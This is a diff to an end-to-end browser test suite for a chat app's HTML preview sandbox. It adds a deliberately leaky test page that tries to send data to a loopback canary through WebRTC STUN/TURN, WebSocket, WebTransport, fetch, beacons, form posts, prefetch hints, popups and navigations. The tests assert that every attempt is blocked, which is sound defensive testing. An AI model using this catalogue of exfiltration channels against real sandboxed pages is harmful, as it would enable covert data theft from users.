@@ -6,7 +6,10 @@
  */
 import type { BrowserContext, Page } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
+import { PREVIEW_SCRIPTS_OFF } from '../../src/protocol/preview';
 import { textReply } from '../unit/server/fake-upstream';
+import { launchChromium } from './browser';
+import { startCanary } from './canary';
 import { FREE_MODEL, chooseModel, openApp, send, useStack } from './stack';
 
 const getStack = useStack();
@@ -168,10 +171,10 @@ describe('code viewer: HTML preview', () => {
     const probes: string[] = [];
     const refused: string[] = [];
     context.on('response', (r) => {
-      if (/probe|pwned/.test(r.url())) probes.push(r.url());
+      if (/[?&]probe=|pwned/.test(r.url())) probes.push(r.url());
     });
     context.on('requestfailed', (r) => {
-      if (/probe/.test(r.url())) refused.push(`${new URL(r.url()).search} ${r.failure()?.errorText ?? ''}`);
+      if (/[?&]probe=/.test(r.url())) refused.push(`${new URL(r.url()).search} ${r.failure()?.errorText ?? ''}`);
     });
     const page = await conversationWith(context, [fence('html', CORPUS)]);
     await page.evaluate(() => {
@@ -191,7 +194,7 @@ describe('code viewer: HTML preview', () => {
     await frame.getByRole('heading', { name: 'Preview' }).waitFor();
     const reports = () => page.evaluate(() => (window as unknown as { __reports: { probe?: string }[] }).__reports.filter((r) => r && r.probe));
     await expect.poll(async () => (await reports()).map((r) => r.probe).sort(), { timeout: 10_000 }).toEqual(
-      expect.arrayContaining(['fetch', 'img-onerror', 'storage', 'svg-onload', 'iframe'].sort()),
+      expect.arrayContaining(['fetch', 'img-onerror', 'storage', 'svg-onload'].sort()),
     );
     // Links are clicked as a user would (Chromium does not follow a javascript: link in this sandbox at all; were
     // it to, the script would run in the opaque origin and be refused like the others).
@@ -201,7 +204,9 @@ describe('code viewer: HTML preview', () => {
 
     const byProbe = new Map((await reports()).map((r) => [r.probe, r as Record<string, unknown>]));
     // Scripts ran (the preview works), but every reach into the app was refused.
-    for (const p of ['img-onerror', 'svg-onload', 'iframe']) expect(byProbe.get(p)?.blocked, p).toBe('SecurityError');
+    for (const p of ['img-onerror', 'svg-onload']) expect(byProbe.get(p)?.blocked, p).toBe('SecurityError');
+    // A child frame runs no script at all (its inline script has no nonce): not even to be refused.
+    expect(byProbe.has('iframe')).toBe(false);
     expect(byProbe.get('javascript-link')?.blocked ?? 'did not run').toMatch(/^(SecurityError|did not run)$/);
     expect(byProbe.get('storage')).toMatchObject({
       cookie: 'blocked:SecurityError',
@@ -228,5 +233,151 @@ describe('code viewer: HTML preview', () => {
     expect(await page.evaluate(() => window.origin)).toBe('null');
     expect(await page.evaluate(() => { try { return String(indexedDB.open('parley')); } catch (e) { return (e as Error).name; } })).toBe('SecurityError');
     await context.close();
+  });
+});
+
+/**
+ * A page that tries every way out to the canary's port (issue 15 item 8): WebRTC (STUN, TURN over UDP and TCP,
+ * a data channel, an offer set as the local description) from a script that comes first in <head>, from the
+ * preview's own realm, from a parsed and a created about:blank frame, from srcdoc frames and from a blob: worker;
+ * resource hints, a stylesheet, CSS url(), a form, WebSocket, WebTransport, EventSource, fetch, a beacon, an
+ * image, a popup, a meta refresh, a link, and navigations of the top and of the frame itself. Its own script also
+ * writes into its own DOM, which must work.
+ */
+function leakyPage(port: number): string {
+  const at = `127.0.0.1:${port}`;
+  const rtc = `function rtc(W, label) {
+  try {
+    var pc = new W.RTCPeerConnection({ iceServers: [{ urls: 'stun:${at}' },
+      { urls: 'turn:${at}?transport=udp', username: 'secret-' + label, credential: 'x' },
+      { urls: 'turn:${at}?transport=tcp', username: 'secret-' + label, credential: 'x' }] });
+    pc.createDataChannel('out');
+    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () { say(label + ': sent'); }, function (e) { say(label + ': ' + e.name); });
+  } catch (e) { say(label + ': refused ' + e.name); }
+}`;
+  return `<!doctype html><html><head>
+<script>function say(s) { try { parent.postMessage({ leak: s }, '*'); } catch (e) {} }
+${rtc}
+rtc(window, 'first script');
+var real = window.RTCPeerConnection || window.webkitRTCPeerConnection;
+say('RTCPeerConnection: ' + typeof real + ', RTC names: ' + Object.getOwnPropertyNames(window).filter(function (n) { return /RTC/.test(n); }).length);</script>
+<link rel="dns-prefetch" href="http://${at}/"><link rel="preconnect" href="http://${at}/">
+<link rel="prefetch" href="http://${at}/prefetch"><link rel="stylesheet" href="http://${at}/sheet.css">
+<meta http-equiv="refresh" content="1;url=http://${at}/refresh">
+<style>body { background: url(http://${at}/css-url); }</style>
+</head><body><h1 id="status">Preview</h1>
+<a id="out" href="http://${at}/link" ping="http://${at}/ping">a link</a>
+<iframe id="parsed"></iframe>
+<iframe srcdoc="<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:${at}' }] }).createOffer()</script>"></iframe>
+<form id="f" action="http://${at}/form" method="post"><input name="secret" value="x"></form>
+<script>
+document.getElementById('status').textContent = 'script ran';
+rtc(window, 'preview realm');
+try { rtc(frames[0], 'parsed frame'); } catch (e) { say('parsed frame: ' + e.name); }
+var blank = document.createElement('iframe'); document.body.appendChild(blank);
+try { rtc(blank.contentWindow, 'about:blank frame'); } catch (e) { say('about:blank frame: ' + e.name); }
+var child = document.createElement('iframe');
+child.srcdoc = '<script>' + rtc.toString() + ';function say() {};rtc(window, "srcdoc")<\\/script>';
+document.body.appendChild(child);
+try {
+  var w = new Worker(URL.createObjectURL(new Blob([rtc.toString() + ';function say() {};rtc(self, "worker")'])));
+  w.onerror = function () { say('worker refused'); };
+} catch (e) { say('worker: ' + e.name); }
+var s = document.createElement('script'); s.textContent = rtc.toString() + ';rtc(window, "added script")'; document.head.appendChild(s);
+try { window.open('http://${at}/popup'); } catch (e) {}
+try { new WebSocket('ws://${at}/ws'); } catch (e) {}
+try { new EventSource('http://${at}/events'); } catch (e) {}
+try { new WebTransport('https://${at}/transport').ready.catch(function () {}); } catch (e) {}
+try { navigator.sendBeacon('http://${at}/beacon', 'secret'); } catch (e) {}
+fetch('http://${at}/fetch', { mode: 'no-cors' }).catch(function () {});
+new Image().src = 'http://${at}/image';
+try { document.getElementById('f').submit(); } catch (e) {}
+try { top.location.href = 'http://${at}/top'; } catch (e) {}
+say('attempts made');
+setTimeout(function () { location.href = 'http://${at}/frame'; }, 1000);
+</script></body></html>`;
+}
+
+describe('code viewer: the HTML preview cannot talk to anyone', () => {
+  /** Runs the leaky page in the viewer; returns the page and the reports its scripts sent to the app. */
+  async function runLeakyPage(context: BrowserContext, port: number) {
+    const page = await conversationWith(context, [fence('html', leakyPage(port))]);
+    await page.evaluate(() => {
+      const w = window as unknown as { __leaks: string[] };
+      w.__leaks = [];
+      window.addEventListener('message', (e: MessageEvent<{ leak?: unknown }>) => {
+        if (typeof e.data?.leak === 'string') w.__leaks.push(e.data.leak);
+      });
+    });
+    await openBlock(page, 0);
+    await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();
+    const leaks = () => page.evaluate(() => (window as unknown as { __leaks: string[] }).__leaks);
+    return { page, frame: page.frameLocator('iframe[title="HTML preview"]'), leaks };
+  }
+
+  it('a loopback STUN canary hears nothing while a page tries every way out, and the page still runs its own script', async () => {
+    const canary = await startCanary();
+    try {
+      // The canary hears WebRTC from an ordinary page of this browser (the control).
+      const control = await getStack().newContext();
+      const plain = await control.newPage();
+      await plain.goto('/preview/probe.gif');
+      await plain.evaluate((port) => {
+        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+        pc.createDataChannel('control');
+        void pc.createOffer().then((o) => pc.setLocalDescription(o));
+      }, canary.port);
+      await expect.poll(() => canary.received.filter((r) => r.startsWith('udp')).length, { timeout: 15_000 }).toBeGreaterThan(0);
+      await control.close();
+      await canary.quiet();
+      canary.received.length = 0;
+
+      const context = await getStack().newContext();
+      const { page, frame, leaks } = await runLeakyPage(context, canary.port);
+      // The page's own script ran and wrote into its own DOM.
+      await frame.getByRole('heading', { name: 'script ran' }).waitFor({ timeout: 15_000 });
+      await expect.poll(leaks, { timeout: 10_000 }).toContain('attempts made');
+      await expect(viewer(page).locator('.html-preview-note').count()).resolves.toBe(0);
+      await frame.locator('#out').click();
+      // The meta refresh (1 s), the frame's own navigation (1 s after the attempts) and TURN's retries have had
+      // their time.
+      await page.waitForTimeout(3000);
+
+      // Nothing reached the canary.
+      expect(canary.received).toEqual([]);
+      const said = await leaks();
+      expect(said).toContain('RTCPeerConnection: undefined, RTC names: 0');
+      expect(said).toContain('first script: refused TypeError');
+      expect(said).toContain('preview realm: refused TypeError');
+      expect(said).toContain('about:blank frame: refused SecurityError');
+      expect(said).toContain('parsed frame: refused SecurityError');
+      expect(said.filter((s) => / sent$/.test(s))).toEqual([]);
+      // The app's page is alive (a srcdoc child that constructs an RTCPeerConnection under a Connection-Allowlist
+      // makes Chromium kill the renderer: the child never gets to run a script).
+      expect(await page.evaluate(() => document.title.length >= 0)).toBe(true);
+      await viewer(page).waitFor();
+      await context.close();
+    } finally {
+      await canary.close();
+    }
+  });
+
+  it('in a browser that does not confine the frame (no Connection-Allowlist), the page is shown without its scripts and says so', async () => {
+    const canary = await startCanary();
+    const browser = await launchChromium(['--disable-features=ConnectionAllowlists']);
+    try {
+      const context = await browser.newContext({ baseURL: getStack().url });
+      const { page, frame, leaks } = await runLeakyPage(context, canary.port);
+      await viewer(page).getByText(PREVIEW_SCRIPTS_OFF).waitFor();
+      await frame.getByRole('heading', { name: 'Preview' }).waitFor();
+      await frame.locator('#out').click();
+      await page.waitForTimeout(3000);
+      expect(await frame.getByRole('heading').textContent()).toBe('Preview');
+      expect(await leaks()).toEqual([]);
+      expect(canary.received).toEqual([]);
+    } finally {
+      await browser.close();
+      await canary.close();
+    }
   });
 });
